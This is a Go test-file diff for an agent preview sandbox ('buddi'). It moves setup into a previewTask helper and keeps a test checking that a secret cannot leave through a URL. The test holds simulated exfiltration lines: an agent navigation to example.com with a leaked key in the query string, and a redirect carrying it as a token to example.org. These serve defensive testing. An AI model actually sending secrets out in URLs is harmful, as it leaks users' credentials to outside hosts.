@@ -34,12 +34,7 @@ func TestE2EASecretCannotLeaveInAURL(t *testing.T) {
 	mux.HandleFunc("/away", func(w http.ResponseWriter, r *http.Request) {
 		http.Redirect(w, r, "https://example.org/landed?token="+leakedKey, http.StatusFound)
 	})
-	s := httptest.NewServer(mux)
-	t.Cleanup(s.Close)
-	dir := t.TempDir()
-	b := serve(t, dir, "BUDDI_PREVIEW_ORIGINS="+s.URL)
-	tok := b.AddAgent(t, "ada", false)
-	b.Task(t, "ada", "c1", 80)
+	s, b, dir, tok := previewTask(t, mux)
 
 	code(t, b.Act(t, tok, "c1", in{"action": "navigate", "url": "https://example.com/?key=" + leakedKey}), "secret_in_url")
 	ok(t, b.Act(t, tok, "c1", in{"action": "navigate", "url": s.URL + "/"}))
@@ -86,4 +81,17 @@ func grepDir(t *testing.T, dir, s string) string {
 		return nil
 	})
 	return found
+}
+
+// previewTask serves h as a preview origin to a buddi of its own, in dir,
+// where agent ada (token tok) has a task for conversation c1.
+func previewTask(t *testing.T, h http.Handler, env ...string) (s *httptest.Server, b *buddi, dir, tok string) {
+	t.Helper()
+	s = httptest.NewServer(h)
+	t.Cleanup(s.Close)
+	dir = t.TempDir()
+	b = serve(t, dir, append([]string{"BUDDI_PREVIEW_ORIGINS=" + s.URL}, env...)...)
+	tok = b.AddAgent(t, "ada", false)
+	b.Task(t, "ada", "c1", 80)
+	return s, b, dir, tok
 }
